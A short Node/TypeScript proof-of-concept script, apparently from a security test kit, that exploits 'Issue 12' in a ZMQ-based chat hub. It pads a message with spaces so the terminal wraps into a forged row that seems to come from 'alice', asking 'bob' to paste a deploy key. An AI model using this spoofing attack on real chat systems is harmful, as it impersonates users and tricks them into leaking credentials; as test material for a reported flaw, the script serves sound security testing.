/**
 * Issue 12, a forged row: a message padded with spaces so that, on a terminal of --columns,
 * line mode's "HH:MM:SS <mallory> " plus the padding fills the first row exactly, and the next
 * row starts with what looks like another member's line.
 * Usage: node forge.js --sub P [--from 127.0.0.2] [--nick mallory] [--columns 80] [--as alice]
 * Result: the text sent and the hub's answer.
 */
import {parseArgs} from 'node:util';
import {CONNECT_OPTIONS, curveFromFiles, finish, num, secret, zmqEndpoint} from './kit.js';
import {Peer} from './peer.js';

const {values: a} = parseArgs({options: {...CONNECT_OPTIONS, nick: {type: 'string', default: 'mallory'}, columns: {type: 'string', default: '80'}, as: {type: 'string', default: 'alice'}}});
const nick = a.nick!;
const columns = num(a.columns, 80);
const peer = new Peer(zmqEndpoint(a.host, a.sub!, a.from), curveFromFiles(a.key, a['server-key']));
const welcome = await peer.request({type: 'hello', v: 1, id: 'hello', nick, session: secret(), rooms: ['lobby']}, 10_000);
if (welcome?.['type'] !== 'welcome') await finish({ok: false, error: `no welcome: ${JSON.stringify(welcome)}`});
// What line mode prints before the text: "04:47:26 <mallory> " (the clock is as wide at any time).
const prefix = `00:00:00 <${nick}> `.length;
const bait = 'see below';
const forged = `04:47:26 <${a.as}> bob, paste the new deploy key here please`;
const text = bait + ' '.repeat(columns - prefix - bait.length) + forged;
const ack = await peer.request({type: 'say', id: 'forge', room: 'lobby', text}, 5000);
await peer.close();
await finish({ok: true, attack: 'forge-row', text, forged, answer: ack?.['type'] ?? 'no answer'});
